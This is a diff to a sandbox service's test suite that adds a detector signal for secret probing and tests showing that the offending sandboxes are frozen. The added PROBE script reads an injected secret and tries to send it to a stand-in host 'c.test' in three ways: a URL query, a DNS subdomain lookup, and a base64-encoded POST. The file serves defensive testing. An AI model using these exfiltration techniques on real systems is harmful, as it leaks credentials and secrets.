@@ -15,6 +15,7 @@ SETTINGS = """
 [signals]
 deny_burst = "freeze"
 upload_spike = "freeze"
+secret_probe = "freeze"
 abuse = "kill"
 upload_bytes = "8MiB"
 spin_after = "15s"
@@ -31,6 +32,25 @@ UPLOAD = f"""
 import socket
 for part in range(3):
     with socket.create_connection(({SILENT!r}, 80), timeout=20) as away: away.sendall(bytes(4 << 20))
+"""
+# One connection that goes on and on, at the pace of a slow line.
+LONG_UPLOAD = f"""
+import socket, time
+with socket.create_connection(({SILENT!r}, 80), timeout=20) as away:
+    while True:
+        away.sendall(bytes(1 << 20))
+        time.sleep(0.2)
+"""
+# Looks for a place that lets its placeholder out: in clear, by a name, by another writing.
+PROBE = """
+import base64, os, socket, urllib.request
+key = os.environ["PROBED_KEY"]
+try: urllib.request.urlopen("http://c.test/?key=" + key, timeout=5)
+except OSError: pass
+try: socket.getaddrinfo(key + ".c.test", 80)
+except OSError: pass
+try: urllib.request.urlopen("http://c.test/", data=base64.b64encode(b"stolen " + key.encode()), timeout=5)
+except OSError: pass
 """
 MAIL = """
 import socket
@@ -79,6 +99,19 @@ def is_held(server, name, program):
         wait_until(server, sandbox.id, lambda info: info["held"])
         assert not oyat(server, "info", bystander.id)["held"] and not signals_of(server, bystander.id)
         oyat(server, "kill", "--force", sandbox.id)
+
+
+def probes(server):
+    """Three tries to get a placeholder out are one signal, and none of them arrives."""
+    sandbox = server.client.create()
+    server.client.api("POST", "/v1/secrets", {"name": "probed", "value": "a-value-that-nobody-sees"})
+    server.client.api("POST", f"/v1/sandboxes/{sandbox.id}/secrets", {"secrets": [
+        {"secret": "probed", "env": "PROBED_KEY", "where": {"host": ["a.test"], "port": [443]}, "how": {"in": "header"}}]})
+    start(sandbox, PROBE)
+    signal = wait_for(server, sandbox.id, "secret_probe")
+    assert signal["action"] == "freeze" and signal["sentence"], signal
+    wait_until(server, sandbox.id, lambda info: info["held"])
+    oyat(server, "kill", "--force", sandbox.id)
 
 
 def is_ended(server, program):
@@ -134,6 +167,7 @@ def honest_work(server, beyond):
 
 def checks(tally, internet, home):
     names = {"signals: deny_burst": (is_held, "deny_burst", SCAN), "signals: upload_spike": (is_held, "upload_spike", UPLOAD),
+             "signals: upload_spike while it runs": (is_held, "upload_spike", LONG_UPLOAD), "signals: secret_probe": (probes,),
              "signals: abuse, mail": (is_ended, MAIL), "signals: abuse, mining": (is_ended, MINE), "signals: spin": (spins,),
              "signals: packages and a test suite": (honest_work, Beyond(home, internet.services, internet.names)),
              "signals: work that prints": (works_and_says_so,), "signals: retries of package managers": (retries_are_no_burst,)}
